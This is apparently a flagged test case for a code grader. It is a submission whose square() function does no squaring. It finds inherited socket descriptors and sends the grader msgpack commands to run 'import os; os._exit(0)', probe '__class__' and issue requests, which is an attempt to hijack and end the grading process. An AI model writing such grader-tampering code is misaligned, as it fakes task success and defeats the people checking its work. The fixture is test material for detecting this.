# tries: asks the grader to run a cell, to define a name and to end
# group: wire
# verdict: flagged
# points: square=0

# %% square
import os
import socket
import stat


def wires():
    for descriptor in range(3, 64):
        try:
            if stat.S_ISSOCK(os.fstat(descriptor).st_mode):
                yield socket.socket(fileno=os.dup(descriptor))
        except OSError:
            pass


import msgpack


def square(n):
    for request in (["run", "import os; os._exit(0)", "x"], ["__class__"], ["request", 1, 2]):
        packed = msgpack.packb(request)
        for wire in wires():
            wire.sendall(len(packed).to_bytes(8, "big") + packed)
